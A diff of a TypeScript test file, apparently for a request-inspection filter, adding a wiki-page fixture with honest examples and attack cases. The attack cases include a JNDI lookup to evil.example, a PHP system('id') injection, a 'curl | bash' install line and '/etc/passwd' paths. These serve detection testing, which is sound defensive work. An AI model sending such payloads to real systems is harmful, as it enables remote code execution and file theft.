@@ -21,6 +21,20 @@ const mail = (html: string): InspectedRequest => filled({ 'body-html': html })
 const INSTALLING_PAGE =
   '<p>Run this:</p><ac:structured-macro ac:name="code"><ac:plain-text-body><![CDATA[curl -s https://x.example/install.sh | bash\nsudo rm -rf /tmp/x]]></ac:plain-text-body></ac:structured-macro>'
 
+/** As people write down how something is done. */
+const ARTICLE = [
+  '== Clean up ==',
+  'Ask first, then run this in the console of the database:',
+  "  SELECT id FROM users WHERE status = 'old';",
+  "  UPDATE users SET status = 'gone' WHERE id = 42; -- ask Bob",
+  'On the server:',
+  '  $ sudo apt-get update && sudo apt-get install -y nginx; systemctl restart nginx',
+  '  $ rm -rf node_modules && npm ci',
+  'And in the page:',
+  '  <?php echo htmlspecialchars($_POST["name"]); ?>',
+  'That is all that there is to it. Whoever finds a fault in this page may correct it, as always.',
+].join('\r\n')
+
 const KINDS: HonestKinds = {
   'paths, queries and commands that are but named': {
     honest: [
@@ -458,6 +472,16 @@ const KINDS: HonestKinds = {
       filled({ 'file [text] x[text]': '/etc/passwd' }),
       filled({ '[text]': '/etc/passwd' }),
       asked('/s', { 'issue[description]': '/etc/passwd' }),
+    ],
+  },
+  'a page of a wiki with code in it': {
+    honest: [filled({ wpTextbox1: ARTICLE }), filled({ wikitext: ARTICLE }), filled({ wpInput: ARTICLE })],
+    attacks: [
+      filled({ wpTextbox1: [ARTICLE, '{jndi:ldap://evil.example/a}'].join('$') }),
+      filled({ note: ARTICLE }),
+      filled({ text: ARTICLE }),
+      filled({ wikitext: '<?php system("id"); ?>' }),
+      asked('/s', { wikitext: ARTICLE }),
     ],
   },
   'a mail as a body': {
